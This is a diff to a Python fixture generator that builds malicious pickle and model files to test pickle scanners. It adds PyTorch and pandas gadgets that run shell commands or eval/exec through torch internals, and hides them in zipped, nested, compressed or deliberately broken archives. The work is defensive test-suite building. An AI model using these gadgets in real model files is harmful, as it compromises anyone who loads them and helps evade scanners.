@@ -363,7 +363,7 @@ def _a17() -> bytes:
     "pickle",
     "GLOBAL 'pathlib os' pushes the os module; builtins.getattr(it, 'system') is called",
     "fickling GHSA-5j3x-jp52-966f; issue 11 ('builtins.getattr on modules')",
-    "getattr",
+    "getattr|os.system",
 )
 def _a18() -> bytes:
     return P2 + call(call(gl("builtins", "getattr"), gl("pathlib", "os"), u("system")), u(SH)) + STOP
@@ -569,6 +569,11 @@ def _o10() -> bytes:
     return P4 + call(sg("_pickle", "loads"), call(sg("zlib", "decompress"), binbytes(inner))) + STOP
 
 
+def member(name: str) -> zipfile.ZipInfo:
+    """A zip member with a fixed date, so that rebuilding gives the same bytes."""
+    return zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
+
+
 # --- containers and compression --------------------------------------------------------------------
 def _joblib(p: Path, compress: object) -> None:
     import joblib
@@ -598,8 +603,8 @@ for _n, (_c, _ext) in enumerate(
 def _z01() -> bytes:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
-        z.writestr("README.txt", "weights")
-        z.writestr("data/weights.bin", dumps(Reduce(os.system, SH)))
+        z.writestr(member("README.txt"), "weights")
+        z.writestr(member("data/weights.bin"), dumps(Reduce(os.system, SH)))
     return buf.getvalue()
 
 
@@ -614,9 +619,9 @@ def _z01() -> bytes:
 def _z02() -> bytes:
     inner, outer = io.BytesIO(), io.BytesIO()
     with zipfile.ZipFile(inner, "w") as z:
-        z.writestr("model/data.pkl", dumps(Reduce(os.system, SH)))
+        z.writestr(member("model/data.pkl"), dumps(Reduce(os.system, SH)))
     with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr("inner.zip", inner.getvalue())
+        z.writestr(member("inner.zip"), inner.getvalue())
     return outer.getvalue()
 
 
@@ -684,6 +689,152 @@ def _j03() -> bytes:
     return J_FORMAT.encode()
 
 
+# --- PyTorch / pandas gadgets (built and proven with benchmarks/work/fixturegen) -------------------
+def _torch_save(obj: object, p: Path, protocol: int = 2) -> None:
+    import torch
+
+    buf = io.BytesIO()  # saved to memory: the archive's folder is "archive", not the file's (telling) name
+    torch.save({"weight": torch.zeros(2), "extra": obj}, buf, pickle_protocol=protocol)
+    p.write_bytes(buf.getvalue())
+
+
+class Rebuilt:
+    """Pickles as a call to ``cls()``: how an attack ships the instance an unbound method needs."""
+
+    def __init__(self, cls: type) -> None:
+        self.cls = cls
+
+    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+        return self.cls, ()
+
+
+@fixture(
+    "t01_torch_collect_env_run.pt",
+    "pytorch-zip",
+    "torch.save of a state dict holding torch.utils.collect_env.run(cmd): Popen(shell=True)",
+    "picklescan GHSA-f745-w6jp-hpxx, GHSA-jhph-76pp-mggw; modelscan#338; issue 11",
+    "collect_env",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t01(p: Path) -> None:
+    from torch.utils import collect_env
+
+    _torch_save(Reduce(collect_env.run, SH), p)
+
+
+@fixture(
+    "t02_torch_fx_shapeenv_eval.pt",
+    "pytorch-zip",
+    "ShapeEnv.evaluate_guards_expression(ShapeEnv(), code, []) eval()s code (protocol 4, dotted qualname)",
+    "picklescan GHSA-f4x7-rfwp-v3xw; issue 11 (torch.fx ShapeEnv)",
+    "evaluate_guards_expression",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t02(p: Path) -> None:
+    from torch.fx.experimental.symbolic_shapes import ShapeEnv
+
+    _torch_save(Reduce(ShapeEnv.evaluate_guards_expression, Rebuilt(ShapeEnv), PY, []), p, protocol=4)
+
+
+@fixture(
+    "t03_torch_datapipes_basichandlers.pt",
+    "pytorch-zip",
+    "torch datapipes decoder basichandlers('pyd', bytes) pickle.loads a nested pickle (posix.system)",
+    "picklescan GHSA-h3qp-7fh3-f8h4; issue 11 (datapipes)",
+    "basichandlers|system",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t03(p: Path) -> None:
+    from torch.utils.data.datapipes.utils.decoder import basichandlers
+
+    _torch_save(Reduce(basichandlers, "pyd", dumps(Reduce(os.system, SH))), p)
+
+
+@fixture(
+    "t04_torch_jit_execwrapper.pt",
+    "pytorch-zip",
+    "torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {}) is exec()",
+    "picklescan GHSA-vr7h-p6mm-wpmh",
+    "execWrapper",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t04(p: Path) -> None:
+    from torch.jit.unsupported_tensor_ops import execWrapper
+
+    _torch_save(Reduce(execWrapper, PY, {}, {}), p)
+
+
+@fixture(
+    "t05_torch_config_module_load_config.pkl",
+    "pickle",
+    "STACK_GLOBAL('torch._dynamo', 'config.load_config'): a ConfigModule's bound method pickle.loads a nested pickle",
+    "picklescan GHSA-vv6j-3g6g-2pvj",
+    "load_config|system",
+    LOAD_PICKLE,
+    "fixturegen",
+)
+def _t05() -> bytes:
+    return P4 + call(sg("torch._dynamo", "config.load_config"), binbytes(dumps(Reduce(os.system, SH)))) + STOP
+
+
+@fixture(
+    "t06_torch_zip_broken_after_payload.pt",
+    "pytorch-zip",
+    "real torch.save zip whose data.pkl is a posix.system call followed by a broken stream (nullifAI)",
+    "ReversingLabs nullifAI (2025-02): torch.load runs the payload before the stream breaks",
+    "system",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t06(p: Path) -> None:
+    import torch
+
+    buf = io.BytesIO()
+    torch.save({"weight": torch.zeros(2)}, buf)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename.endswith("/data.pkl"):
+                data = P2 + call(gl("posix", "system"), u(SH)) + pickle.POP + b"\xff broken"
+            dst.writestr(info, data)
+    p.write_bytes(out.getvalue())
+
+
+@fixture(
+    "c07_pandas_zstd.pkl.zst",
+    "pickle-zstd",
+    "pandas.to_pickle(..., compression inferred 'zstd'); pandas.read_pickle decompresses it transparently",
+    "issue 11 (compressed pickles: zstd)",
+    "system",
+    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
+    "fixturegen",
+)
+def _c07(p: Path) -> None:
+    import pandas as pd
+
+    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, p)
+
+
+@fixture(
+    "c08_pandas_gzip.pkl.gz",
+    "pickle-gzip",
+    "pandas.to_pickle to .pkl.gz (a plain gzip stream, no joblib framing); read_pickle opens it",
+    "issue 11 (compressed pickles: gzip)",
+    "system",
+    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
+    "fixturegen",
+)
+def _c08(p: Path) -> None:
+    import pandas as pd
+
+    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, p)
+
+
 # --- proof ---------------------------------------------------------------------------------------
 def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
     """Build fx in a fresh directory and load it there in a subprocess; proven when the marker appears."""
@@ -713,21 +864,20 @@ def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
 def main() -> None:
     ap = argparse.ArgumentParser()
     ap.add_argument("--only", help="build only fixtures whose file name starts with this")
+    ap.add_argument("--needs", choices=["venv", "fixturegen"], help=argparse.SUPPRESS)  # set when delegating
     args = ap.parse_args()
+    needs = args.needs or "venv"
     OUT.mkdir(parents=True, exist_ok=True)
     manifest = OUT / "manifest.csv"
     rows: dict[str, dict[str, str]] = {}
     if manifest.exists():
         rows = {r["file"]: r for r in csv.DictReader(manifest.open(encoding="utf-8"))}
+    chosen = [fx for fx in FIXTURES if not args.only or fx.file.startswith(args.only)]
     failed = []
-    for fx in FIXTURES:
-        if args.only and not fx.file.startswith(args.only):
+    for fx in chosen:
+        if fx.needs != needs:
             continue
-        python = Path(sys.executable) if fx.needs == "venv" else FIXTUREGEN
-        if not python.exists():
-            print(f"skip {fx.file}: {python} missing", file=sys.stderr)
-            continue
-        ok, why = prove(fx, python)
+        ok, why = prove(fx, Path(sys.executable))
         print(f"{'proven ' if ok else 'FAILED '} {fx.file}" + ("" if ok else f"  ({why})"), file=sys.stderr)
         if ok:
             rows[fx.file] = {
@@ -745,6 +895,12 @@ def main() -> None:
             w.writerow(rows[k])
     if failed:
         print(f"{len(failed)} not proven (not kept): {', '.join(failed)}", file=sys.stderr)
+    if args.needs is None and any(fx.needs == "fixturegen" for fx in chosen):
+        if not FIXTUREGEN.exists():
+            print(f"skipped the torch/pandas fixtures: {FIXTUREGEN} missing", file=sys.stderr)
+            return
+        extra = ["--only", args.only] if args.only else []
+        subprocess.run([str(FIXTUREGEN), __file__, "--needs", "fixturegen", *extra], check=True)
 
 
 if __name__ == "__main__":
